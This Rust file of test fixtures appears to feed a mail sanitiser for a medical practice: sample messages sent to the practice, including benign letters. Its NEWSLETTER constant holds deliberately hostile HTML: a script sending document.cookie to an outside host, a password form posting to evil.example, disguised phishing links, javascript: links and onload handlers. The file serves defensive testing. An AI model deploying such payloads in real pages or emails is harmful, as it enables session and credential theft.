//! What outside people and firms write to the practice.

/// A newsletter as hostile as they come: scripts, handlers, styles that cover the page, a form, tracking, disguised links.
pub const NEWSLETTER: &str = r#"<html><head><style>body{background:url(https://track.zorgmagazine.example/bg.png)} .x{position:fixed;top:0;left:0;width:100%;height:100%}</style>
<script>fetch('https://track.zorgmagazine.example/?c='+document.cookie)</script><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="alert(1)"><img src="https://track.zorgmagazine.example/open.gif?u=anna" width="1" height="1">
<h1 style="color:#0a6">Zorgmagazine – deze week</h1>
<p>Beste lezer, dit zijn de <b>vijf trends</b> in de eerste lijn.</p>
<ul><li>Digitale intake: wat werkt?</li><li>Griepprik: de cijfers</li><li>Minder administratie in drie stappen</li></ul>
<p><a href="https://login.evil.example/verify" onclick="steal()">https://www.zorgmagazine.example/aanmelden</a></p>
<p><a href="javascript:alert(document.domain)">Lees verder</a></p>
<form action="https://evil.example/steal"><input name="password" placeholder="Wachtwoord"><button>Inloggen</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="alert(2)"></svg>
<table border="1"><tr><th>Praktijk</th><th>Wachttijd</th></tr><tr><td>Gemiddeld</td><td>3 dagen</td></tr></table>
<div class="x">U bent uitgelogd. <a href="https://evil.example/login">Opnieuw aanmelden</a></div>
<p style="font-size:small">U ontvangt deze mail omdat u zich heeft aangemeld. <a href="https://www.zorgmagazine.example/afmelden?id=77">Afmelden</a></p></body></html>"#;

/// The same in plain text.
pub const NEWSLETTER_TEXT: &str =
    "Zorgmagazine – deze week\n\nBeste lezer, dit zijn de vijf trends in de eerste lijn.\n";

/// A plain invitation in HTML.
pub const TRAINING: &str = r#"<html><body style="font-family:Arial"><h2>Refresher: basic life support</h2>
<p>Dear colleagues,</p><p>The next session is on <b>Thursday the 14th, 17:30 – 20:00</b>, at the Zuiderkliniek, room 2.11.</p>
<p>Please <a href="https://training.zuiderkliniek.example/bls">sign up here</a> before Monday.</p><p>Kind regards,<br>Training desk</p></body></html>"#;

/// Discharge letter.
pub const DISCHARGE: &str = "Geachte collega De Vries,\n\nBijgaand de ontslagbrief van uw patiënt de heer J. Willems, geboren 14-03-1957, \
BSN 123456782, opgenomen wegens atriumfibrilleren. Gestart met apixaban 5 mg 2dd en metoprolol 50 mg 1dd. Graag controle van \
bloeddruk en nierfunctie over twee weken.\n\nMet vriendelijke groet,\ndr. P. van Dam, cardioloog\nZuiderkliniek\n";

/// Thanks for a referral.
pub const REFERRAL_ANSWER: &str = "Dear Dr Carter,\n\nThank you for the referral of Mrs Hughes. The ECG shows a first-degree AV block. We \
have planned an echocardiogram and a 24-hour Holter next week and will let you know the outcome.\n\nKind regards,\nDr P. van Dam\n\
Cardiology, Zuiderkliniek\n";

/// A repeat prescription.
pub const PRESCRIPTION: &str = "Goedemorgen,\n\nZou ik een herhaalrecept kunnen krijgen voor mijn bloeddruktabletten (lisinopril 10 mg)? Ik heb \
er nog voor vijf dagen.\n\nGroeten,\nMarijke Visser\n";

/// A question in English.
pub const QUESTION: &str = "Hello,\n\nI registered with your practice last month. Could you tell me whether I need to book a separate \
appointment for the travel vaccinations, or can the assistant do them at the walk-in hour?\n\nBest wishes,\nOliver Grant\n";

/// From the pharmacy.
pub const PHARMACY: &str = "Beste Anna,\n\nBij mevrouw El Amrani zien wij een interactie tussen metformine en de nieuwe antibioticumkuur. \
Kun je ons even bellen?\n\nGroet,\nApotheek Zuid\n";

/// From the lab.
pub const LAB: &str = "Geachte dokter,\n\nIn de bijlage vindt u het overzicht van de spoedbepalingen van vandaag.\n\nKlinisch laboratorium \
Zuiderkliniek\n";

/// From a supplier.
pub const INVOICE: &str = "Beste mevrouw Bakker,\n\nHierbij ontvangt u de factuur voor de geleverde verbandmaterialen.\n\nMet vriendelijke \
groet,\nMedisupply\n";
